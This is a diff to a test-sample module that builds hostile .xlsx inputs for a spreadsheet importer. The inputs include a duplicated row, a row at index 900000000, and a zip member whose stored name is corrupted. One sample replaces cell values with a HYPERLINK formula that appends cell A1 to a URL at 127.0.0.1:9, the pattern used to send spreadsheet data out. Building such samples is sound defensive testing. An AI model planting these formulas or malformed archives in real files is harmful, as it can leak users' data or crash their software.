@@ -12,7 +12,7 @@ from .samples import Damages
 
 WORKBOOKS = Damages()
 _SHEET, _TEXTS = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml"
-_BURST = 64 << 20
+_BURST = 32 << 20  # less than is allowed, but from a thousandth of it
 
 
 def _rezipped(
@@ -243,6 +243,33 @@ def a_row_far_below(content: bytes) -> bytes:
             b"</sheetData>", b'<row r="900000000"><c r="A900000000"><v>1</v></c></row></sheetData>'
         ),
     )
+
+
+@WORKBOOKS.to("xlsx", refused=False)
+def a_row_twice(content: bytes) -> bytes:
+    def change(data: bytes) -> bytes:
+        last = data.rindex(b"<row ")
+        row = data[last : data.index(b"</row>", last) + len(b"</row>")]
+        return data.replace(row, row + row)
+
+    return _with_member(content, _SHEET, change)
+
+
+@WORKBOOKS.to("xlsx", refused=False)
+def formulas_for_values(content: bytes) -> bytes:
+    formula = b'<f>HYPERLINK("http://127.0.0.1:9/"&amp;A1)</f><v>0</v></c>'
+
+    def change(data: bytes) -> bytes:
+        return re.sub(rb' t="inlineStr"><is>.*?</c>', b">" + formula, data[:-1500]) + data[-1500:]
+
+    return _with_member(content, _SHEET, change)
+
+
+@WORKBOOKS.to("xlsx")
+def a_member_named_otherwise_inside(content: bytes) -> bytes:
+    """The directory and the member disagree about its name, and the member's is no text."""
+    at = content.index(_SHEET.encode())
+    return content[: at - 24] + b"\x00\x08" + content[at - 22 : at] + b"\xff" + content[at + 1 :]
 
 
 @WORKBOOKS.to("xlsx", refused=False)
